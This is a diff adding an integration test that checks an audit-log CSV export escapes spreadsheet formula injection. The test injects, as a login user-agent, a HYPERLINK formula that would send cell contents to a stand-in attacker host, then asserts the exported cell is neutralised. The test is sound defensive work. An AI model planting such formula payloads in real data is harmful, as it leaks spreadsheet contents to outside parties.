@@ -1,5 +1,6 @@
 import { DEMO_PASSWORD, demoPlan } from '@kabinet/kit';
-import { eventually } from '@kabinet/kit/testing';
+import { eventually, postGraphQL } from '@kabinet/kit/testing';
+import { parse } from 'csv-parse/sync';
 import { type RunningSystem, startSystem } from '../src/system';
 
 const AUDIT = `query ($filter: AuditFilter) { auditLog(filter: $filter) { edges { node {
@@ -65,5 +66,32 @@ describe('the action archive through the gateway', () => {
       betaAdmin,
     );
     expect(betaView.data?.auditLog.edges).toEqual([]);
+  });
+
+  it('exports the archive as CSV in which text a caller chose never opens as a formula', async () => {
+    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
+    const refused = await postGraphQL(
+      system.gatewayUrl,
+      'mutation ($i: LoginInput!) { login(input: $i) { accessToken } }',
+      { i: { login: beta.admin.login, password: 'wrong-password-123' } },
+      { 'user-agent': formula },
+    );
+    expect(refused.errors?.[0].extensions?.code).toBe('UNAUTHENTICATED');
+
+    const admin = await system.login(beta.admin.login, DEMO_PASSWORD);
+    const rows = await eventually(async () => {
+      const result = await system.query<{ auditLogCsv: string }>(
+        'query ($filter: AuditFilter) { auditLogCsv(filter: $filter) }',
+        { filter: { action: 'identity.login', actorId: beta.admin.id } },
+        admin,
+      );
+      const parsed: Record<string, string>[] = parse(result.data?.auditLogCsv ?? '', { columns: true });
+      return parsed.some((row) => row.outcome === 'UNAUTHENTICATED') && parsed;
+    }, 'the refused sign-in in the CSV');
+    const refusedRow = rows.find((row) => row.outcome === 'UNAUTHENTICATED');
+    expect(refusedRow?.userAgent).toBe(`'${formula}`);
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
   });
 });
